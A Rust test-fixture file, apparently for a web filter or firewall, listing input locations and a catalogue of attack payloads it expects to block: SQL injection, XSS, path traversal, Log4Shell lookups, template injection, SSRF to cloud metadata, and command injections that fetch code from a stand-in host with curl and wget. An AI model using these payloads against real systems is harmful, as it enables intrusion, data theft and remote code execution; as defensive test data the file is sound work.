//! Attacks that must not come through anywhere.

use super::wire::At;

/// Every place from which an application takes values.
pub(crate) const PLACES: &[At] = &[
    At::Query("q"),
    At::Form("comment"),
    At::Json("text"),
    At::DeepJson("text"),
    At::Field("text"),
    At::Cookie("prefs"),
    At::Xml,
    At::Body("text/plain"),
];

/// The family, and one of its attacks.
pub(crate) const EVERYWHERE: &[(&str, &str)] = &[
    ("sqli", "1' OR '1'='1"),
    ("sqli", "-1 UNION SELECT 1,username,password FROM users--"),
    ("sqli", "1 and sleep(5)"),
    ("xss", "<script>alert(1)</script>"),
    ("xss", "<img src=x onerror=alert(1)>"),
    ("xss", "<svg/onload=alert(1)>"),
    ("traversal", "../../../../etc/passwd"),
    ("traversal", "..\\..\\windows\\win.ini"),
    ("traversal", "php://filter/convert.base64-encode/resource=index.php"),
    ("command", "x|cat /etc/passwd"),
    ("command", "$(curl http://192.0.2.1/x)"),
    ("command", "a && ping -c 4 192.0.2.1"),
    ("code", "<?php system('id'); ?>"),
    ("template", "{{7*7}}"),
    ("template", "${jndi:ldap://192.0.2.1/a}"),
    ("template", "{{''.__class__.__mro__[1].__subclasses__()}}"),
    ("deserialisation", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"),
    ("ldap", "*)(uid=*))(|(uid=*"),
    ("ssrf", "http://169.254.169.254/latest/meta-data/"),
    ("ssrf", "gopher://127.0.0.1:6379/_INFO"),
    ("nosql", "{\"$ne\": null}"),
    ("scanner", "http://c8s7d6.oast.fun/"),
];

/// Headers that applications write into their logs and pages.
pub(crate) const HEADERS: &[At] = &[At::Header("User-Agent"), At::Header("Referer"), At::Header("X-Client")];

/// What comes by them.
pub(crate) const BY_HEADER: &[(&str, &str)] = &[
    ("sqli", "x' or 1=1 -- "),
    ("xss", "\"><script>alert(1)</script>"),
    ("command", "x; wget http://192.0.2.1/x"),
    ("code", "<?php system('id'); ?>"),
    ("template", "${jndi:ldap://192.0.2.1/a}"),
    ("template", "{{7*7}}"),
    ("scanner", "http://c8s7d6.oast.fun/"),
];

/// What comes by the path.
pub(crate) const BY_PATH: &[(&str, &str)] = &[
    ("sqli", "1' or '1'='1"),
    ("xss", "<script>alert(1)</script>"),
    ("template", "${7*7}"),
    ("template", "${jndi:dns://x.example}"),
    ("hidden-files", ".git/config"),
    ("web-shell", "uploads/x.php"),
];

/// Ways to inject SQL, in an argument.
pub(crate) const SQL: &[&str] = &[
    "' or 1=1--",
    "' or 1=1#",
    "' or 1=1/*",
    "' or ''='",
    "' or 'x'='x",
    "\" or \"\"=\"",
    "') or ('1'='1",
    "')) or (('1'='1'--",
    "' or true--",
    "' or not false#",
    "' || '1'='1",
    "' && 1=1#",
    "1 or 1=1",
    "1) or (1=1",
    "1 and 1=2",
    "1 and 1=1 --",
    "1' and '1'='2",
    "1' and ascii(substring((select database()),1,1))>64 --",
    "1 and (select count(*) from users)>0",
    "1' and length(database())=4#",
    "-1' union select 1,2,3-- -",
    "1 union all select null,null,null",
    "1 UnIoN/**/SeLeCt 1,@@version",
    "1' order by 10--",
    "1 order by 3--",
    "1 group by 1 having 1=1--",
    "1' group by users.id having 1=1--",
    "1;select pg_sleep(5)--",
    "1; waitfor delay '0:0:5'--",
    "1' waitfor delay '0:0:5'--",
    "'; exec xp_cmdshell 'dir'--",
    "'; insert into users values('a','b')--",
    "1; update users set role='admin' where id=1",
    "1' and sleep(5) and '1'='1",
    "1' and if(1=1,sleep(5),0)#",
    "'-sleep(5)-'",
    "'+(select 1 from dual)+'",
    "1' and extractvalue(1,concat(0x7e,version()))#",
    "1' and updatexml(1,concat(0x7e,user()),1)#",
    "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
    "1' and 1=cast((select version()) as int)--",
    "1' and 1=convert(int,@@version)--",
    "' and (select 1 from (select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a)--",
    "admin' --",
    "admin'#",
    "admin'/*",
    "1' rlike (select (case when (1=1) then 1 else 0x28 end))--",
    "1' and 'a' like 'a",
    "1' and 1 in (1)--",
    "1' and 1 between 1 and 2--",
    "1' into outfile '/tmp/x'--",
    "load_file('/etc/passwd')",
    "1%27%20or%201%3D1--",
    "' or username is not null--",
    "1 or exists(select 1 from users)",
    "1-(select count(*) from users)",
    "case when 1=1 then 1 else 0 end",
    "' having 1=1--",
];
